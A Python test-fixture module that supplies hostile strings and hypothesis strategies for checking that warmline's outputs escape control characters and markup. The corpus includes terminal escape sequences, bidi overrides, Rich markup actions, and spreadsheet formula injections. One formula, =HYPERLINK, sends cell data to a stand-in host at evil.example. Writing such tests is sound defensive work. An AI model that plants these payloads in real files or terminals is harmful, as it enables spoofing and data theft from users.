"""Hostile strings for every output surface: the fixed corpus and hypothesis strategies.

Each output test feeds these through a surface (CLI text, --json, CSV, ICS, notifications,
the app) and asserts with `escaped_controls` that no control character got out raw and with
its own checks that nothing crashed or acted. Names that carry controls are refused on the
way in, so tests that need them stored write them with `plant` (as another program would).
"""

from __future__ import annotations

import sqlite3
import unicodedata
from pathlib import Path

from hypothesis import strategies as st

from warmline.text import is_control

# Terminal escapes: a title change (OSC 0), a colour (CSI), a clear screen, a hyperlink (OSC 8),
# 8-bit C1 controls (CSI as U+009B, NEL, OSC as U+009D), bidi overrides and isolates, a BEL,
# a backspace, a carriage return that hides what came before, DEL, line separators, zero-width.
CONTROLS = [
    "\x1b]0;pwned\x07",
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m",
    "\x85",
    "\x9d0;title\x9c",
    "\u202eevil\u202c",
    "\u202a\u202b\u202d",
    "\u2066\u2067\u2068\u2069",
    "\x07",
    "abc\x08\x08\x08xyz",
    "visible\rhidden",
    "\x7f",
    "line\u2028break\u2029",
    "zero\u200bwidth\ufeff",
    "\x00nul",
]
# Markup that Textual, Rich or a notification server would act on, and spreadsheet formulas.
MARKUP = [
    "Rosa [/]",
    "[@click=app.quit]Click[/]",
    "[bold red]shout[/bold red]",
    "[link=http://evil.example]x[/link]",
    "[/",
    "[b]unclosed",
    "\\[escaped]",
    "<a href='http://evil.example'>click</a>",
    "<img src='http://evil.example/x.png'/>",
    "&amp; <b>bold</b>",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&B3,"Rosa")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "'=already quoted",
]
# Text that must pass untouched (it is ordinary).
ORDINARY = ["Rosa Díaz", "Zoë O'Brien", "李小龙", "مريم", "Ana-María", "👩‍👩‍👧 family", "Dr. R. Smith, Jr."]

HOSTILE = CONTROLS + MARKUP + FORMULAS


def control_text() -> st.SearchStrategy[str]:
    """Strings that hold at least one control character (C0, C1, DEL, bidi, other Cf), but for the
    zero-width joiner and non-joiner that warmline/text.py keeps on purpose (they join letters in
    Persian, the Indic scripts and emoji; a name needs them)."""
    control = st.characters(categories=("Cc", "Cf"), exclude_characters="\u200c\u200d")
    return st.tuples(st.text(max_size=8), control, st.text(max_size=8)).map("".join)


def name_like_text() -> st.SearchStrategy[str]:
    """Any short text, controls and markup brackets included."""
    return st.text(
        alphabet=st.one_of(st.characters(categories=("Cc", "Cf", "L", "N", "P", "S", "Zs")), st.sampled_from("[]/@=<>&")),
        min_size=1,
        max_size=24,
    )


def escaped_controls(output: str, *, allow: str = "\n") -> list[str]:
    """The control characters found raw in an output (empty when it is safe). `allow` lists
    the ones the surface may use itself (newlines; '\\r\\n' for ICS and CSV files)."""
    return sorted({f"U+{ord(ch):04X}" for ch in output if ch not in allow and is_control(ch)})


def plant(db_path: Path, sql: str, params: tuple = ()) -> None:
    """Write directly into a rota file, bypassing warmline's input checks (as another program,
    or a rota written before those checks existed, would have)."""
    conn = sqlite3.connect(db_path)
    try:
        conn.execute("PRAGMA trusted_schema=OFF")
        conn.execute(sql, params)
        conn.commit()
    finally:
        conn.close()


def describe(text: str) -> str:
    """A hostile string as an ascii test id."""
    return "".join(ch if ch.isascii() and ch.isprintable() else f"<{unicodedata.name(ch, hex(ord(ch)))}>" for ch in text)[:40]
